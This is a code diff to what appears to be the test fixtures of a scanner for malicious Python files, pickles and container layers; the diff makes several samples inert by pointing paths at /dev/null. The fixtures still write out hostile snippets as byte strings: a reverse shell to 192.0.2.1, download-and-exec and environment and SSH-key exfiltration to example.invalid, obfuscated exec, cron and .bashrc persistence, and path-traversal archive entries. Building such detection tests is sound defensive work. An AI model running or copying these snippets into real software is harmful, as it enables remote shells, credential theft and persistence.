@@ -60,10 +60,10 @@ ATTACKS = {
     "os-system": b"import os\nos.system('echo waag-inert')\n", "subprocess": b"import subprocess\nsubprocess.run(['echo', 'waag-inert'])\n", "exec-base64": b"import base64\nexec(base64.b64decode('ZWNobyB3YWFnLWluZXJ0'))\n",
     "exec-zlib": b"import zlib, base64\nexec(zlib.decompress(base64.b64decode('eJwDAAAAAAE=')))\n", "eval-input": b"eval(compile(open('x').read(), 'x', 'exec'))\n", "reverse-shell": b"import socket, os, pty\ns = socket.socket()\ns.connect(('192.0.2.1', 4444))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n",
     "download-run": b"import urllib.request\nexec(urllib.request.urlopen('http://example.invalid/x').read())\n", "import-hidden": b"__import__('o' + 's').system('echo waag-inert')\n", "getattr-hidden": b"import builtins\ngetattr(builtins, 'ev' + 'al')('1')\n",
-    "environment": b"import os, urllib.request\nurllib.request.urlopen('http://example.invalid/?' + str(dict(os.environ)))\n", "ssh-keys": b"from pathlib import Path\nimport requests\nrequests.post('http://example.invalid', data=Path.home().joinpath('.ssh/id_rsa').read_bytes())\n",
+    "environment": b"import os, urllib.request\nurllib.request.urlopen('http://example.invalid/?' + str(dict(os.environ)))\n", "ssh-keys": b"from pathlib import Path\nimport requests\nrequests.post('http://example.invalid', data=Path('/dev/null').joinpath('.ssh/id_rsa').read_bytes())\n",
     "pickle-load": b"import pickle, base64\npickle.loads(base64.b64decode('gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAR0cnVllIWUUpQu'))\n", "marshal": b"import marshal\nexec(marshal.loads(b'N'))\n", "ctypes": b"import ctypes\nctypes.CDLL('./evil.so')\n",
     "lambda-exec": b"(lambda f: f('1'))(exec)\n", "hidden-column": b"import os" + b" " * 300 + b";os.system('echo waag-inert')\n", "far-down": b"x = 1\n" * 3000 + b"import os\nos.system('echo waag-inert')\n", "rot13": b"import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))\n",
-    "cron": b"open('/etc/cron.d/waag', 'w').write('* * * * * root true')\n", "bashrc": b"import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('echo waag-inert')\n", "pip-install": b"import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'waag-evil'])\n",
+    "cron": b"open('/dev/null/etc/cron.d/waag', 'w').write('* * * * * root true')\n", "bashrc": b"import os\nopen(os.path.expanduser('/dev/null/home/.bashrc'), 'a').write('echo waag-inert')\n", "pip-install": b"import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', '--index-url', 'http://example.invalid', 'waag-evil'])\n",
 }
 
 
@@ -265,10 +265,10 @@ def containers() -> Shelf:
 
     add("layer-pickle", oci([layer(models__model_dot_pkl=PICKLE)]), "a pickle in a layer")
     add("second-layer-pickle", oci([layer(a=b"x"), layer(models__model_dot_pkl=PICKLE)]), "a pickle in the second layer")
-    add("layer-traversal", oci([gz(tar_bytes([entry("../../../etc/cron.d/waag", b"x")]))]), "a layer whose file leaves")
+    add("layer-traversal", oci([gz(tar_bytes([entry("../../../waag-inert", b"x")]))]), "a layer whose file leaves")
     add("layer-pickle-plain", oci([tar_bytes([entry("model.pkl", PICKLE)])], media="application/vnd.oci.image.layer.v1.tar"), "a layer that is not compressed")
     add("modelpack-pickle", oci([PICKLE], media="application/vnd.cncf.model.weight.v1.raw"), "a model as an artefact, a pickle")
-    add("kitops-title", oci([layer(model_dot_bin=PICKLE)], media="application/vnd.kitops.modelkit.model.v1.tar+gzip", annotations={"org.opencontainers.image.title": "../../../etc/cron.d/x"}), "a model kit")
+    add("kitops-title", oci([layer(model_dot_bin=PICKLE)], media="application/vnd.kitops.modelkit.model.v1.tar+gzip", annotations={"org.opencontainers.image.title": "../../../waag-inert"}), "a model kit")
     add("digest-lies", {n: (d + b" " if n.startswith("blobs/") else d) for n, d in oci([layer(a=b"x")]).items()}, "blobs whose digests are wrong", "not-allow")
     add("size-lies", oci([layer(a=b"x")], lie=True), "blobs whose sizes are wrong", "not-allow")
     add("foreign-layer", oci([layer(a=b"x")], urls=["http://example.invalid/layer.tar.gz"]), "a layer from an address", "not-allow")
